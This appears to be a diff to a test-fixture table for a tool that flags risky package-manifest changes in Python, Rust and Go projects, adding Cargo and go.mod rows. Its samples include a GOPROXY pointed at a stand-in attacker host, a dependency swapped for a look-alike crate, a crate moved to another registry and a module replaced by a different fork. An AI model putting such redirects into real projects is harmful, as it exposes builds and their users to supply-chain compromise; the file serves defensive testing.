@@ -1,6 +1,8 @@
 /** Changes to packages of Python, Rust and Go, and the nearest ones that say nothing. */
 import { CARGO, CARGO_LOCK, edit, GOMOD, GOSUM, HASHED, PYPROJECT, REQUIREMENTS, type Row, UV } from './package-changes.ts';
 
+const REPLACED = `${GOMOD}\nreplace github.com/spf13/cobra => github.com/fork/cobra v1.8.1\n`;
+
 export const PYTHON_RUST_GO: readonly Row[] = [
   [
     'python: setup.py that fetches',
@@ -181,5 +183,30 @@ export const PYTHON_RUST_GO: readonly Row[] = [
     'deny registry',
     [{ path: 'Dockerfile', before: 'FROM golang\n', after: 'FROM golang\nENV GOPROXY=https://proxy.attacker.example\n' }],
     [{ path: 'Dockerfile', before: 'FROM golang\n', after: 'FROM golang\nENV GOPROXY=direct\n' }],
+  ],
+  [
+    'cargo: a crate of the base that is another one of a similar name',
+    'ask alias',
+    [edit('Cargo.toml', CARGO, 'serde = "1.0"', 'serde = { package = "serde-core", version = "1.0" }')],
+    [edit('Cargo.toml', CARGO, 'serde = "1.0"', 'serde = { package = "serde", version = "1.0.1" }')],
+  ],
+  [
+    'cargo: a crate of the base that now comes from another registry',
+    'ask unusual-source',
+    [edit('Cargo.toml', CARGO, 'serde = "1.0"', 'serde = { registry = "mine", version = "1.0" }')],
+    [
+      edit(
+        'Cargo.toml',
+        CARGO.replace('serde = "1.0"', 'serde = { registry = "mine", version = "1.0" }'),
+        'version = "1.0"',
+        'version = "1.1"',
+      ),
+    ],
+  ],
+  [
+    'go: another module in place of one that was replaced already',
+    'ask alias',
+    [edit('go.mod', REPLACED, 'github.com/fork/cobra', 'github.com/other/cobra')],
+    [edit('go.mod', REPLACED, 'v1.8.1', 'v1.8.2')],
   ],
 ];
